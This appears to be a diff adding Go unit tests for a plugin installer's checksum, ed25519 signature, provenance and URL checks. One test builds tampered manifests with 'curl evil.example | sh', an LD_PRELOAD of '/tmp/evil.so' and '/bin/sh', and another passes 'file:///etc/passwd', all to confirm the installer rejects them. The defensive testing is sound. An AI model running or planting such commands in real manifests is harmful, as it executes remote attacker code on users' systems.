@@ -0,0 +1,230 @@
+package plugin
+
+import (
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+type testRegistry struct {
+	srv      *httptest.Server
+	artifact []byte
+	index    RegistryIndex
+}
+
+func newTestRegistry(t *testing.T, priv ed25519.PrivateKey, versions ...string) *testRegistry {
+	t.Helper()
+	reg := &testRegistry{artifact: []byte("#!/bin/sh\necho '{}'\n")}
+	mux := http.NewServeMux()
+	reg.srv = httptest.NewServer(mux)
+	t.Cleanup(reg.srv.Close)
+
+	sum := sha256.Sum256(reg.artifact)
+	entry := RegistryEntry{Name: "demo"}
+	for _, v := range versions {
+		rel := Release{
+			Version:     v,
+			ArtifactURL: reg.srv.URL + "/artifacts/demo-" + v,
+			SHA256:      hex.EncodeToString(sum[:]),
+			Manifest: Manifest{
+				APIVersion: APIVersionV2,
+				Name:       "demo",
+				Version:    v,
+				Command:    "sh",
+				Args:       []string{ArtifactPlaceholder},
+				CheckTypes: []string{"http"},
+			},
+		}
+		if priv != nil {
+			signRelease(t, priv, &rel)
+		}
+		entry.Releases = append(entry.Releases, rel)
+	}
+	reg.index.Plugins = []RegistryEntry{entry}
+
+	mux.HandleFunc("/index.json", func(w http.ResponseWriter, r *http.Request) {
+		_ = json.NewEncoder(w).Encode(reg.index)
+	})
+	mux.HandleFunc("/artifacts/", func(w http.ResponseWriter, r *http.Request) {
+		_, _ = w.Write(reg.artifact)
+	})
+	return reg
+}
+
+func signRelease(t *testing.T, priv ed25519.PrivateKey, rel *Release) {
+	t.Helper()
+	payload, err := SigningPayload(rel)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rel.Signature = base64.StdEncoding.EncodeToString(ed25519.Sign(priv, payload))
+}
+
+func TestInstallVerifiesChecksumAndRecordsProvenance(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	reg := newTestRegistry(t, priv, "1.0.0", "1.2.0", "1.10.0-rc1")
+	dir := t.TempDir()
+	in := &Installer{PluginsDir: dir, PublicKey: pub, RequireSignature: true}
+	indexURL := reg.srv.URL + "/index.json"
+
+	rel, err := in.Resolve(context.Background(), SourceRegistry, indexURL, "demo")
+	if err != nil {
+		t.Fatalf("Resolve() error = %v", err)
+	}
+	if rel.Version != "1.10.0-rc1" {
+		t.Fatalf("latest = %s, want 1.10.0-rc1", rel.Version)
+	}
+
+	m, err := in.Install(context.Background(), rel, SourceRegistry, indexURL)
+	if err != nil {
+		t.Fatalf("Install() error = %v", err)
+	}
+	if m.Provenance == nil || !m.Provenance.Signed || m.Provenance.Source != indexURL {
+		t.Fatalf("unexpected provenance: %+v", m.Provenance)
+	}
+	if !strings.HasPrefix(m.Args[0], filepath.Join(dir, "bin", "demo")) {
+		t.Fatalf("artifact placeholder not replaced: %v", m.Args)
+	}
+	if _, err := os.Stat(m.Args[0]); err != nil {
+		t.Fatalf("artifact not written: %v", err)
+	}
+
+	installed, err := in.Installed("demo")
+	if err != nil || installed.Err != nil {
+		t.Fatalf("installed manifest not loadable: %v / %v", err, installed)
+	}
+
+	if _, err := in.Remove("demo"); err != nil {
+		t.Fatalf("Remove() error = %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "bin", "demo")); !os.IsNotExist(err) {
+		t.Fatal("artifacts should be removed")
+	}
+}
+
+func TestInstallRejectsChecksumMismatch(t *testing.T) {
+	reg := newTestRegistry(t, nil, "1.0.0")
+	rel := reg.index.Plugins[0].Releases[0]
+	rel.SHA256 = strings.Repeat("0", 64)
+
+	in := &Installer{PluginsDir: t.TempDir()}
+	_, err := in.Install(context.Background(), &rel, SourceURL, reg.srv.URL)
+	if err == nil || !strings.Contains(err.Error(), "checksum mismatch") {
+		t.Fatalf("expected checksum mismatch, got %v", err)
+	}
+}
+
+func TestInstallSignatureEnforcement(t *testing.T) {
+	pub, _, _ := ed25519.GenerateKey(rand.Reader)
+	_, otherPriv, _ := ed25519.GenerateKey(rand.Reader)
+
+	unsigned := newTestRegistry(t, nil, "1.0.0")
+	in := &Installer{PluginsDir: t.TempDir(), PublicKey: pub, RequireSignature: true}
+	rel := unsigned.index.Plugins[0].Releases[0]
+	if _, err := in.Install(context.Background(), &rel, SourceURL, ""); err == nil || !strings.Contains(err.Error(), "unsigned") {
+		t.Fatalf("expected unsigned release to be rejected, got %v", err)
+	}
+
+	forged := newTestRegistry(t, otherPriv, "1.0.0")
+	rel = forged.index.Plugins[0].Releases[0]
+	if _, err := in.Install(context.Background(), &rel, SourceURL, ""); err == nil || !strings.Contains(err.Error(), "signature verification failed") {
+		t.Fatalf("expected forged signature to be rejected, got %v", err)
+	}
+}
+
+func TestInstallSignatureCoversManifest(t *testing.T) {
+	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
+	reg := newTestRegistry(t, priv, "1.0.0")
+	in := &Installer{PluginsDir: t.TempDir(), PublicKey: pub, RequireSignature: true}
+
+	tampered := []func(*Release){
+		func(rel *Release) { rel.Manifest.Command = "/bin/sh" },
+		func(rel *Release) { rel.Manifest.Args = []string{"-c", "curl evil.example | sh"} },
+		func(rel *Release) { rel.Manifest.Env = map[string]string{"LD_PRELOAD": "/tmp/evil.so"} },
+	}
+	for i, tamper := range tampered {
+		rel := reg.index.Plugins[0].Releases[0]
+		rel.Manifest.Args = append([]string(nil), rel.Manifest.Args...)
+		tamper(&rel)
+		if _, err := in.Install(context.Background(), &rel, SourceURL, ""); err == nil || !strings.Contains(err.Error(), "signature verification failed") {
+			t.Errorf("tampered manifest %d: expected signature failure, got %v", i, err)
+		}
+	}
+
+	rel := reg.index.Plugins[0].Releases[0]
+	rel.Manifest.Args = []string{"line\nbreak"}
+	if _, err := SigningPayload(&rel); err == nil {
+		t.Error("expected values with line breaks to be rejected")
+	}
+}
+
+func TestResolveRejectsReleaseForAnotherPlugin(t *testing.T) {
+	reg := newTestRegistry(t, nil, "1.0.0")
+	reg.srv.Config.Handler.(*http.ServeMux).HandleFunc("/release.json", func(w http.ResponseWriter, r *http.Request) {
+		_ = json.NewEncoder(w).Encode(reg.index.Plugins[0].Releases[0])
+	})
+	in := &Installer{PluginsDir: t.TempDir()}
+
+	if _, err := in.Resolve(context.Background(), SourceURL, reg.srv.URL+"/release.json", ""); err != nil {
+		t.Fatalf("first install from a URL: %v", err)
+	}
+	if _, err := in.Resolve(context.Background(), SourceURL, reg.srv.URL+"/release.json", "other"); err == nil || !strings.Contains(err.Error(), `declares plugin name "demo"`) {
+		t.Fatalf("expected a release for another plugin to be rejected, got %v", err)
+	}
+}
+
+func TestInstallRefusesToReplaceManualPlugin(t *testing.T) {
+	reg := newTestRegistry(t, nil, "1.0.0")
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "custom.json"), []byte(`{"name":"demo","command":"/bin/true"}`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	in := &Installer{PluginsDir: dir}
+	rel := reg.index.Plugins[0].Releases[0]
+	if _, err := in.Install(context.Background(), &rel, SourceURL, ""); err == nil || !strings.Contains(err.Error(), "installed manually") {
+		t.Fatalf("expected manual plugin conflict, got %v", err)
+	}
+}
+
+func TestCheckDownloadURL(t *testing.T) {
+	for raw, ok := range map[string]bool{
+		"https://plugins.example.com/index.json": true,
+		"http://127.0.0.1:8080/index.json":       true,
+		"http://plugins.example.com/index.json":  false,
+		"file:///etc/passwd":                     false,
+	} {
+		if err := checkDownloadURL(raw); (err == nil) != ok {
+			t.Errorf("checkDownloadURL(%q) error = %v, want ok=%v", raw, err, ok)
+		}
+	}
+}
+
+func TestCompareVersions(t *testing.T) {
+	cases := []struct {
+		a, b string
+		want int
+	}{
+		{"1.2.0", "1.10.0", -1},
+		{"v2.0.0", "1.9.9", 1},
+		{"1.0.0-rc1", "1.0.0", -1},
+		{"1.0.0+build", "1.0.0", 0},
+	}
+	for _, tc := range cases {
+		if got := CompareVersions(tc.a, tc.b); got != tc.want {
+			t.Errorf("CompareVersions(%s, %s) = %d, want %d", tc.a, tc.b, got, tc.want)
+		}
+	}
+}